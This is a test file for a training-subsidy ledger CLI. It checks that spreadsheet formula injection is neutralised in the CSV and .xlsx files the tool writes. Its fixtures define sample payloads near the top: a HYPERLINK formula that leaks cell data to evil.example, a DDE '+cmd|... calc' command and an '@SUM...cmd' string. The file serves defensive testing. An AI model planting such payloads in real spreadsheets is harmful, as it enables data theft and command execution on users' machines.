// Formula injection: text a trainee or institution could carry (=HYPERLINK(…), +cmd|…, @SUM(…), -1+…)
// must reach every file the tool writes as text, never as a formula: an apostrophe-prefixed cell in a
// CSV, a string cell in an .xlsx. Every writer is run: ledger add (.csv, .xlsx), ledger export (.csv,
// .xlsx), validate --out (marked copy) and assemble (claim papers).
import { promises as fs } from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import Papa from 'papaparse';
import { readLedgerFile } from '../../src/ledger-store/files';
import { csvSafe, csvUnsafe } from '../../src/ledger-store/csv-safe';
import { makePeople } from '../fixtures/people';
import { SAMPLE_HEADERS, styleHeader, writePerson } from '../fixtures/sample';
import { run, tempDir } from '../cli/run';

const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const INSTITUTION = "+cmd|' /C calc'!A0";
const OCC_NOTE = '@SUM(1+1)*cmd';
const TRIGGERS = /^[=+\-@\t\r]/;

let dir: string;
let roster: string;

beforeAll(async () => {
  dir = await tempDir('formula');
  roster = path.join(dir, 'roster.xlsx');
  const people = makePeople(4, 77);
  people[0].name = NAME;
  people[1].remark = OCC_NOTE;
  people[2].name = '-1+2-王芳';
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('花名册');
  ws.getCell('A1').value = '职业技能培训补贴人员花名册';
  styleHeader(ws, 3, SAMPLE_HEADERS);
  people.forEach((p, k) => writePerson(ws, 4 + k, k + 1, p));
  await wb.xlsx.writeFile(roster);
});

afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

/** Every cell of a CSV the tool wrote: none may start a formula. */
async function csvCells(file: string): Promise<string[]> {
  const text = (await fs.readFile(file, 'utf8')).replace(/^\ufeff/, '');
  return (Papa.parse<string[]>(text, { skipEmptyLines: true }).data as string[][]).flat();
}

function expectNoFormulaCell(cells: string[]): void {
  const bad = cells.filter((c) => TRIGGERS.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
  expect(bad).toEqual([]);
}

/** The formulas of every sheet of an .xlsx, and all its text (shared and inline strings). */
async function xlsxParts(file: string): Promise<{ formulas: string[]; strings: string }> {
  const zip = await JSZip.loadAsync(await fs.readFile(file));
  const formulas: string[] = [];
  let strings = '';
  for (const name of Object.keys(zip.files)) {
    if (!/^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(name)) continue;
    const xml = await zip.file(name)!.async('string');
    for (const m of xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)) formulas.push(m[1]);
    for (const m of xml.matchAll(/<t[^>]*>([^<]*)<\/t>/g)) strings += m[1] + '\n';
  }
  return { formulas, strings };
}

async function expectTextOnly(file: string, payloads: string[]): Promise<void> {
  const { formulas, strings } = await xlsxParts(file);
  expect(formulas.filter((f) => /HYPERLINK|evil|cmd|calc/i.test(f))).toEqual([]);
  for (const p of payloads)
    expect(strings).toContain(p.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/'/g, '&apos;'));
}

test('csvSafe prefixes formula starters; plain numbers and other text stay; csvUnsafe undoes it', () => {
  for (const s of ['=1+1', '+cmd', '-1+2', '@SUM(A1)', '\tx', '\rx']) {
    expect(csvSafe(s)).toBe(`'${s}`);
    expect(csvUnsafe(csvSafe(s))).toBe(s);
  }
  for (const s of ['-12.50', '+3', '王芳', "'already", '']) expect(csvSafe(s)).toBe(s);
  expect(csvUnsafe("'plain")).toBe("'plain");
});

test('ledger add into a CSV ledger writes no formula and reads the same text back', async () => {
  const ledger = path.join(dir, '台账.csv');
  const r = await run(
    'ledger',
    'add',
    roster,
    '--ledger',
    ledger,
    '--institution',
    INSTITUTION,
    '--include-errors',
    '--date',
    '2021-06-01',
  );
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  const cells = await csvCells(ledger);
  expectNoFormulaCell(cells);
  expect(cells).toContain(`'${NAME}`);
  const recs = (await readLedgerFile(ledger)).parse.records;
  expect(recs.map((x) => x.name)).toContain(NAME);
  expect(recs.every((x) => x.institution === INSTITUTION)).toBe(true);
  // a second add rewrites the file: earlier cells stay neutralised (not prefixed twice)
  const other = path.join(dir, 'other.xlsx');
  await fs.copyFile(roster, other);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(other);
  wb.worksheets[0].getCell('B4').value = '李四';
  wb.worksheets[0].getCell('J4').value = new Date(Date.UTC(2021, 8, 1));
  wb.worksheets[0].getCell('K4').value = new Date(Date.UTC(2021, 8, 15));
  await wb.xlsx.writeFile(other);
  expect((await run('ledger', 'add', other, '--ledger', ledger, '--include-errors', '--force')).code).toBe(0);
  expectNoFormulaCell(await csvCells(ledger));
  expect((await csvCells(ledger)).filter((c) => c.startsWith("''"))).toEqual([]);
});

test('ledger add into an .xlsx ledger writes string cells', async () => {
  const ledger = path.join(dir, '台账.xlsx');
  const r = await run('ledger', 'add', roster, '--ledger', ledger, '--institution', INSTITUTION, '--include-errors');
  expect(r.code).toBe(0);
  await expectTextOnly(ledger, [NAME, INSTITUTION]);
  expect((await readLedgerFile(ledger)).parse.records.map((x) => x.name)).toContain(NAME);
});

test('ledger export to .csv and .xlsx writes no formula', async () => {
  const db = path.join(dir, 'ledger.sqlite');
  expect(
    (await run('ledger', 'add', roster, '--ledger', db, '--institution', INSTITUTION, '--include-errors')).code,
  ).toBe(0);
  const csv = path.join(dir, 'export.csv');
  const xlsx = path.join(dir, 'export.xlsx');
  expect((await run('ledger', 'export', csv, '--ledger', db)).code).toBe(0);
  expect((await run('ledger', 'export', xlsx, '--ledger', db)).code).toBe(0);
  expectNoFormulaCell(await csvCells(csv));
  expect(await csvCells(csv)).toContain(`'${INSTITUTION}`);
  await expectTextOnly(xlsx, [NAME, INSTITUTION]);
  expect((await readLedgerFile(csv)).parse.records.map((x) => x.name)).toContain(NAME);
});

test('the marked copy (validate --out) and the claim papers (assemble) keep the text as text', async () => {
  const marked = path.join(dir, 'marked.xlsx');
  const v = await run('validate', roster, '--out', marked);
  expect(v.code).toBeLessThan(2);
  await expectTextOnly(marked, [NAME]);
  const claim = path.join(dir, 'claim.xlsx');
  const info = path.join(__dirname, '../../examples/claim-info.json');
  const a = await run('assemble', roster, '--info', info, '--out', claim, '--include-errors');
  expect(a.stderr).toBe('');
  expect(a.code).toBe(0);
  await expectTextOnly(claim, [NAME]);
});
